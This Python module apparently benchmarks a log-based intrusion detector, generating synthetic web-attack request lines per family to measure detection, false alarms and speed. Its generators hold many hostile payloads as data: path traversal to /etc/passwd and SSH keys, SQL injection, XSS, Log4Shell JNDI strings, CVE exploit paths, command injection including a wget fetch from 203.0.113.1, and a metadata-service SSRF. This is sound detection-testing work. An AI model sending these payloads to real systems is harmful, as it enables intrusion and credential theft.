# ruff: noqa: E501 - exploit request shapes and table rows read better on one line
"""The rules detector measured: detection per attack family on generated lines, the
alerts and bans on a real benign access log, and the matcher's cost on the bench log.

Used by ``bench/accuracy.py --rules`` (and ``--rules-speed``). Attack lines are made
here from each family's public exploit shapes, with random encodings, case, depth,
placement and client tools, independently of the rules' own test lines, so the
figure measures the families rather than the examples the rules were written from.
"""

from __future__ import annotations

import io
import json
import random
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from aisentinel.clock import FakeClock
from aisentinel.config import parse_config
from aisentinel.events import HttpRequest
from aisentinel.parsers import ParserContext, build_parser
from aisentinel.rules import load_rules
from aisentinel.rules.matcher import Matcher

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/125.0 Safari/537.36"
TOOLS = (BROWSER, "curl/7.88.1", "python-requests/2.28.1", "Go-http-client/1.1", "-")

Gen = Callable[[random.Random], tuple[str, int, str]]
"""A family's generator: ``(request line, status, user agent)``."""


def _enc_dot(r: random.Random) -> str:
    return r.choice(
        ("..", "%2e%2e", "%2E%2E", ".%2e", "%252e%252e", "%c0%ae%c0%ae", "%u002e%u002e")
    )


def _enc_slash(r: random.Random) -> str:
    return r.choice(("/", "%2f", "%2F", "%252f", "%c0%af", "\\x5c", "%5c"))


def _traversal(r: random.Random) -> tuple[str, int, str]:
    depth = r.randint(2, 9)
    sep = _enc_slash(r)
    dots = "".join(_enc_dot(r) + sep for _ in range(depth))
    target = r.choice(
        (
            "etc/passwd",
            "etc/shadow",
            "windows/win.ini",
            "proc/self/environ",
            "root/.ssh/id_rsa",
            "app/config.php",
            "WEB-INF/web.xml",
        )
    )
    base = r.choice(
        (
            "/static/",
            "/images/",
            "/download.php?file=",
            "/index.php?page=",
            "/api/v1/files/",
            "/..;/",
            "/assets/",
        )
    )
    if r.random() < 0.2:
        dots = "..;/" * depth
    return f"GET {base}{dots}{target} HTTP/1.1", r.choice((200, 400, 404)), r.choice(TOOLS)


def _sqli(r: random.Random) -> tuple[str, int, str]:
    n = r.randint(1, 9)
    payload = r.choice(
        (
            f"1+UNION+ALL+SELECT+{','.join(['NULL'] * n)}--+-",
            f"-{n}%20union%20select%20{','.join(str(i) for i in range(n))}",
            f"1'+AND+SLEEP({n})--+",
            f"1)+AND+(SELECT+{n}+FROM+(SELECT(SLEEP({n})))x)--",
            "1'%20or%20'1'%3D'1",
            f"1+or+{n}={n}--",
            "1;WAITFOR+DELAY+'0:0:5'--",
            "(select+load_file('/etc/passwd'))",
            "1+AND+extractvalue(1,concat(0x7e,version()))",
            "admin'--",
        )
    )
    param = r.choice(("id", "q", "cat", "user", "item", "page"))
    path = r.choice(("/index.php", "/products", "/search", "/news.php", "/api/items"))
    return f"GET {path}?{param}={payload} HTTP/1.1", r.choice((200, 500)), r.choice(TOOLS)


def _xss(r: random.Random) -> tuple[str, int, str]:
    payload = r.choice(
        (
            "<script>alert(1)</script>",
            "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
            "%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
            "<img src=x onerror=prompt(1)>",
            "javascript:alert(1)",
            "%3Ciframe%20src%3Djavascript:alert(1)%3E",
            "'><body onload=confirm(1)>",
            "<details open ontoggle=alert(1)>",
        )
    )
    return f"GET /search?q={payload.replace(' ', '%20')} HTTP/1.1", 200, r.choice(TOOLS)


def _log4shell(r: random.Random) -> tuple[str, int, str]:
    proto = r.choice(("ldap", "rmi", "dns", "ldaps", "iiop"))
    jndi = r.choice(
        (
            f"${{jndi:{proto}://203.0.113.{r.randint(1, 254)}:1389/a}}",
            f"${{${{lower:j}}ndi:{proto}://x.example/a}}",
            f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://x/a}}",
            f"${{j${{::-n}}di:{proto}://x/a}}",
            f"${{${{upper:j}}${{upper:n}}${{upper:d}}${{upper:i}}:{proto}://x/a}}",
        )
    )
    where = r.random()
    if where < 0.5:
        return "GET / HTTP/1.1", 200, jndi
    encoded = jndi.replace("$", "%24").replace("{", "%7B").replace("}", "%7D")
    return f"GET /?q={encoded} HTTP/1.1", 200, BROWSER


def _cve(r: random.Random) -> tuple[str, int, str]:
    path = r.choice(
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/phpunit/src/Util/PHP/eval-stdin.php",
            "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/icons/.%%32%65/.%%32%65/etc/passwd",
            "/public/plugins/grafana-clock-panel/../../../../etc/passwd",
            "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
            "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
            "/mgmt/tm/util/bash",
            "/vpn/../vpns/cfg/smb.conf",
            "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/",
            "/api/v1/totp/user-backup-code/../../license/keys-status/x",
            "/global-protect/login.esp",
            "/ssl-vpn/hipreport.esp",
            "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%7D/",
            "/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php",
            "/remote_agent.php?action=polldata&poller_id=;id&host_id=1&local_data_ids[]=1",
            "/vendor/htmlawed/htmlawed/htmLawedTest.php",
            "/zm/index.php?view=snapshot&action=create&monitor_ids[0][Id]=;id",
            "/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://203.0.113.1/x",
            "/GponForm/diag_Form?images/",
            "/ui/vropspluginui/rest/services/uploadova",
            "/s/x/_/;/WEB-INF/web.xml",
            "/_ignition/execute-solution",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
            "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp",
            "/webtools/control/ProgramExport",
            "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css",
            "/json/setup-restore.action",
        )
    )
    method = r.choice(("GET", "POST"))
    return f"{method} {path} HTTP/1.1", r.choice((200, 400, 404, 403)), r.choice(TOOLS)


def _webshell(r: random.Random) -> tuple[str, int, str]:
    name = r.choice(
        (
            "wso.php",
            "c99.php",
            "r57.php",
            "alfa.php",
            "shell.php",
            "b374k.php",
            "cmd.php",
            "xleet.php",
            "wp-conflg.php",
            "cmd.jsp",
            "shell.aspx",
            "marijuana.php",
            "priv8.php",
        )
    )
    folder = r.choice(
        ("/", "/wp-content/plugins/x/", "/uploads/", "/images/", "/wp-includes/", "/.well-known/")
    )
    if r.random() < 0.3:
        name = name.upper()
    return f"GET {folder}{name} HTTP/1.1", 404, r.choice(TOOLS)


def _wordpress(r: random.Random) -> tuple[str, int, str]:
    kind = r.random()
    if kind < 0.4:
        return "GET /wp-json/wp/v2/users HTTP/1.1", r.choice((200, 404)), r.choice(TOOLS)
    if kind < 0.6:
        return f"GET /?rest_route=/wp/v2/users&per_page={r.randint(1, 100)} HTTP/1.1", 200, BROWSER
    path = r.choice(
        (
            "/wp-login.php",
            "/xmlrpc.php",
            "/wp-includes/wlwmanifest.xml",
            "/blog/wp-includes/wlwmanifest.xml",
            "/wp-admin/setup-config.php",
        )
    )
    return f"GET {path} HTTP/1.1", 404, r.choice(TOOLS)


def _scanner_ua(r: random.Random) -> tuple[str, int, str]:
    agent = r.choice(
        (
            f"sqlmap/1.{r.randint(0, 8)}.{r.randint(0, 12)}#stable (https://sqlmap.org)",
            f"Mozilla/5.00 (Nikto/2.{r.randint(1, 5)}.0) (Evasions:None) (Test:00{r.randint(1000, 9999)})",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Mozilla/5.0 zgrab/0.x",
            f"masscan/1.{r.randint(0, 3)} (https://github.com/robertdavidgraham/masscan)",
            f"WPScan v3.8.{r.randint(1, 25)} (https://wpscan.com/wordpress-security-scanner)",
            "gobuster/3.6",
            "Fuzz Faster U Fool v2.1.0",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Mozilla/5.0 (l9explore/1.2.2)",
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        )
    )
    return (
        f"GET /{r.choice(('', 'admin', 'login', 'index.php'))} HTTP/1.1",
        r.choice((200, 404)),
        agent,
    )


def _malformed(r: random.Random) -> tuple[str, int, str]:
    kind = r.random()
    if kind < 0.5:
        junk = "".join(f"\\x{r.randint(0, 255):02X}" for _ in range(r.randint(3, 20)))
        return junk, 400, "-"
    if kind < 0.7:
        return f"GET / HTTP/{r.choice(('9.9', '5.5', '0.8', '4.0', '1.1.1'))}", 400, "-"
    return (
        r.choice(
            (
                "HELP",
                "batman",
                "SSH-2.0-OpenSSH_8.9",
                "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
            )
        ),
        400,
        "-",
    )


def _proxy(r: random.Random) -> tuple[str, int, str]:
    host = r.choice(("www.google.com", "203.0.113.9", "api.ipify.org", "example.com"))
    if r.random() < 0.5:
        return f"CONNECT {host}:{r.choice((443, 25, 80))} HTTP/1.1", r.choice((400, 405)), "-"
    return f"GET http://{host}/ HTTP/1.1", r.choice((200, 400)), r.choice(TOOLS)


def _ai(r: random.Random) -> tuple[str, int, str]:
    dots = "".join(_enc_dot(r) + _enc_slash(r) for _ in range(r.randint(3, 7)))
    request = r.choice(
        (
            f"HEAD /api/blobs/sha256-{dots}etc/passwd",
            f"POST /api/blobs/sha256:{dots}root/.ollama/id_ed25519",
            f"GET /model-versions/get-artifact?path={dots}etc/passwd&name=x&version=1",
            f"GET /ajax-api/2.0/mlflow-artifacts/artifacts/{dots}etc/passwd",
            "GET /file=/etc/passwd",
            f"GET /gradio_api/file={dots}root/.bash_history",
            f"GET /view?filename=passwd&subfolder={dots}etc&type=output",
            "GET /worker/cpu_profile?pid=1&ip=127.0.0.1&duration=5&native=0&format=`id`",
            "GET /log_proxy?url=http://169.254.169.254/latest/meta-data/",
            "POST /api/2.0/mlflow/users/create",
            "POST /api/jobs/",
            "GET /api/kernels",
            "POST /key/generate",
            "GET /api/terminals",
        )
    )
    status = 200 if "/jobs/" in request or "users/create" in request else r.choice((401, 403, 404))
    return f"{request} HTTP/1.1", status, r.choice(TOOLS)


FAMILIES: dict[str, Gen] = {
    "traversal": _traversal,
    "sqli": _sqli,
    "xss": _xss,
    "log4shell": _log4shell,
    "web-cve": _cve,
    "webshell": _webshell,
    "wordpress": _wordpress,
    "scanner-ua": _scanner_ua,
    "malformed": _malformed,
    "open-proxy": _proxy,
    "ai-server": _ai,
}


def _line(request: str, status: int, agent: str, i: int) -> str:
    return (
        f"198.51.100.{i % 250 + 1} - - [01/Jan/2025:00:00:{i % 60:02d} +0000] "
        f'"{request}" {status} 100 "-" "{agent}"'
    )


def family_detection(per_family: int = 500, seed: int = 7) -> dict[str, dict[str, Any]]:
    """Per family: generated lines, lines some rule matched, and the rules that did."""
    ruleset = load_rules(None)
    matcher = Matcher(ruleset.rules, exclusions=ruleset.exclusions)
    parser = build_parser("nginx", ParserContext(source="bench", clock=FakeClock(1.7e9)))
    rnd = random.Random(seed)
    out: dict[str, dict[str, Any]] = {}
    for family, gen in FAMILIES.items():
        hits = 0
        rules: Counter[str] = Counter()
        missed: list[str] = []
        for i in range(per_family):
            line = _line(*gen(rnd), i)
            event = parser.parse(line)
            matched = matcher.match(event)[0] if isinstance(event, HttpRequest) else []
            if matched:
                hits += 1
                rules.update(r.id for r in matched[:1])
            elif len(missed) < 5:
                missed.append(line)
        out[family] = {
            "lines": per_family,
            "detected": hits,
            "rules": dict(rules),
            "missed": missed,
        }
    return out


def benign_log(path: Path) -> dict[str, Any]:
    """Replay a benign access log through every detector (defaults, shipped rules):
    the bans and every alert with its reason."""
    from aisentinel.replay import replay

    config = parse_config({"detectors": {"rules": {"rules_dir": ""}}})
    buf = io.StringIO()
    summary = replay([(path, "nginx")], config, buf, as_json=True, err=io.StringIO())
    findings: list[dict[str, Any]] = []
    bans = 0
    for row in buf.getvalue().splitlines():
        record = json.loads(row)
        if record.get("kind") == "finding":
            findings.append(record)
        elif record.get("kind") == "decision" and record.get("action") == "ban":
            bans += 1
    return {
        "lines": summary.files[0].lines if summary.files else 0,
        "parsed": summary.files[0].parsed if summary.files else 0,
        "bans": bans,
        "findings": findings,
    }


def _timed_replay(path: Path, rules_on: bool) -> float:
    from aisentinel.replay import replay

    config = parse_config({"detectors": {"rules": {"rules_dir": "", "enabled": rules_on}}})
    started = time.perf_counter()
    replay([(path, "nginx")], config, io.StringIO(), as_json=True, err=io.StringIO())
    return time.perf_counter() - started


def matcher_cost(
    lines: int = 1_000_000, seed: int = 1, workdir: Path | None = None
) -> dict[str, Any]:
    """Replay time of the quiet bench access log (bench/gen.py's demo scenario) with the
    rules detector off, then with every shipped rule on: one run each."""
    from aisentinel.demo.scenario import generate

    with tempfile.TemporaryDirectory() as tmp:
        work = workdir or Path(tmp)
        generate(work, lines_nginx=lines, lines_sshd=1000, lines_error=1000, seed=seed)
        log = work / "access.log"
        off = _timed_replay(log, rules_on=False)
        on = _timed_replay(log, rules_on=True)
    return {
        "lines": lines,
        "rules_off_s": off,
        "rules_on_s": on,
        "slower_pct": (on / off - 1) * 100,
    }


def print_report(
    families: dict[str, dict[str, Any]] | None,
    benign: dict[str, Any] | None,
    speed: dict[str, Any] | None,
    out: Iterator[str] | None = None,
) -> None:
    """The human-readable tables."""
    del out
    if families is not None:
        print(f"{'family':<12} {'lines':>6} {'detected':>9} {'rate':>7}  top rules")
        for name, row in families.items():
            top = ", ".join(f"{k} {v}" for k, v in Counter(row["rules"]).most_common(3))
            print(
                f"{name:<12} {row['lines']:>6} {row['detected']:>9} {row['detected'] / row['lines']:>7.1%}  {top}"
            )
            for line in row["missed"]:
                print(f"    missed: {line[:150]}")
    if benign is not None:
        print(
            f"\nbenign log: {benign['lines']} lines, {benign['parsed']} parsed, bans {benign['bans']}, findings {len(benign['findings'])}"
        )
        for f in benign["findings"]:
            print(
                f"  {f['action']:<5} {f['detector']:<12} {f['severity']:<8} {f['client']}: {f['message'][:140]}"
            )
    if speed is not None:
        print(
            f"\nmatcher cost, {speed['lines']:,} quiet bench lines: "
            f"rules off {speed['rules_off_s']:.2f}s, all shipped rules on "
            f"{speed['rules_on_s']:.2f}s ({speed['slower_pct']:+.1f}%)"
        )
